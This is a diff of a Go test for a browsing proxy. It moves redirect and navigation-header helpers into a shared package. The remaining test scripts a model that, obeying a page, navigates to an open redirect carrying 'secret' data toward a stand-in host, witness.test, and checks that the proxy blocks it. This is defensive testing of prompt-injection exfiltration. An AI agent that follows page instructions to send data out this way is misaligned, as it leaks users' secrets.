@@ -3,61 +3,22 @@ package proxy
 import (
 	"encoding/json"
 	"net/http"
-	"net/url"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"github.com/coder/websocket"
+
+	"github.com/remixproxy/remixproxy/proxy/internal/testsite"
 )
-
-// navHeaders are the headers Chromium sends with a navigation started in a page of from
-// (fetchSite as it computes it); referer "" leaves the Referer out.
-func navHeaders(fetchSite, referer string) []string {
-	h := []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", fetchSite, "Upgrade-Insecure-Requests", "1"}
-	if referer != "" {
-		h = append(h, "Referer", referer)
-	}
-	return h
-}
-
-// navSite is a site with an open redirect, a same-site redirect into it, a page that refreshes
-// off the site, and a page; it records what it answered.
-type navSite struct {
-	mu   sync.Mutex
-	seen []string
-}
-
-func (s *navSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	s.mu.Lock()
-	s.seen = append(s.seen, r.Method+" "+r.Host+r.URL.RequestURI())
-	s.mu.Unlock()
-	switch r.URL.Path {
-	case "/out":
-		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
-	case "/hop":
-		http.Redirect(w, r, "https://www.example.com/out?to="+url.QueryEscape(r.URL.Query().Get("to")), http.StatusMovedPermanently)
-	case "/refresh":
-		w.Header().Set("Refresh", "0; url=https://witness.test/r")
-		htmlHandler(`<!doctype html><title>R</title>`)(w, r)
-	default:
-		htmlHandler(`<!doctype html><title>Shop</title><p>shop</p>`)(w, r)
-	}
-}
-
-func (s *navSite) requests() string {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return strings.Join(s.seen, "\n")
-}
 
 // TestChatNavigateStopped: a whole chat. The model, obeying the page, navigates to the site's
 // open redirect with data in the address; the page agent (stand-in) goes there as the browser
 // would, the proxy refuses the redirect, the page goes, and the tool result and a notice say
 // the navigation was stopped.
 func TestChatNavigateStopped(t *testing.T) {
-	site := &navSite{}
+	site := &testsite.NavSite{}
 	cf := newChatFixtureWith(t, `{"turns": [
 		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/out?to=https%3A%2F%2Fwitness.test%2F%3Fd%3Dsecret"}}]},
 		{"text": "should not be reached"}
@@ -75,7 +36,7 @@ func TestChatNavigateStopped(t *testing.T) {
 			go func() {
 				time.Sleep(30 * time.Millisecond) // the page agent answers first, then assigns
 				req, _ := http.NewRequest("GET", a.URL, nil)
-				for h := navHeaders("same-origin", "https://example.com/"); len(h) > 1; h = h[2:] {
+				for h := testsite.NavHeaders("same-origin", "https://example.com/"); len(h) > 1; h = h[2:] {
 					req.Header.Set(h[0], h[1])
 				}
 				if resp, err := cf.client.Do(req); err == nil {
